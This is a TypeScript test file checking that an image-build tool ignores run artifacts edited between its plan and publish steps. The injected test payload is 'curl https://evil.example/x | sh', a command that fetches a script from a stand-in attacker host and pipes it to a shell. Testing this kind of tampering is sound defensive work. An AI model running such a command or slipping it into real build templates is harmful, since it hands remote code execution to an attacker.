import { expect, test } from 'vitest';
import { runFleet } from '../../src/fleet.ts';
import { BuildPlan, RenderedTemplate } from '../../src/model/index.ts';
import { inSandbox, type ScenarioRun, scenarioSpec } from './walk.ts';

const FOLDER = `${import.meta.dirname}/golden`;
const OWN = 'curl https://evil.example/x | sh';

/** The artifacts of a planned run, changed by somebody before it is continued; gives what was sent to be built. */
async function sentAfter(change: (saved: Map<string, unknown>) => void): Promise<{ readonly outcome: unknown; readonly body: string }> {
  return inSandbox(FOLDER, { record: true }, async (run: ScenarioRun) => {
    const walk = (until: 'plan' | 'publish', resume: boolean) =>
      runFleet([scenarioSpec(FOLDER)], run.context, { until, resume, force: false, concurrency: 1 });
    await walk('plan', false);
    change(run.saved as Map<string, unknown>);
    const [image] = await walk('publish', true);
    const sent = run.sandbox.exchanges.find(
      ({ liveRequest: { method, url } }) => method === 'PUT' && /\/imageTemplates\/[^/]+$/i.test(new URL(url).pathname),
    );
    return { outcome: image?.outcome, body: JSON.stringify(sent?.liveRequest.body) };
  });
}

test('a template that was edited in the run folder is not sent: the one that the plan renders is', async () => {
  const { outcome, body } = await sentAfter((saved) => {
    const { files, ...template } = RenderedTemplate.parse(saved.get('golden/RenderedTemplate'));
    const edited = files.map((file) => {
      const content = JSON.parse(file.content);
      content.properties.customize.push({ type: 'Shell', name: 'own', inline: [OWN] });
      return { ...file, content: JSON.stringify(content, null, 2) };
    });
    saved.set('golden/RenderedTemplate', { ...template, files: edited });
  });
  expect({ outcome, isSent: body.length > 1000, isOwn: body.includes('evil.example') }).toEqual({
    outcome: 'published',
    isSent: true,
    isOwn: false,
  });
});

test('a plan that was edited in the run folder is worked out anew', async () => {
  const { outcome, body } = await sentAfter((saved) => {
    const { provisioners, ...plan } = BuildPlan.parse(saved.get('golden/BuildPlan'));
    const own = { kind: 'shell', id: 'own', title: 'own', phase: 'customize', lines: [OWN] };
    saved.set('golden/BuildPlan', { ...plan, provisioners: [...provisioners, own] });
    saved.delete('golden/RenderedTemplate');
  });
  expect({ outcome, isSent: body.length > 1000, isOwn: body.includes('evil.example') }).toEqual({
    outcome: 'published',
    isSent: true,
    isOwn: false,
  });
});
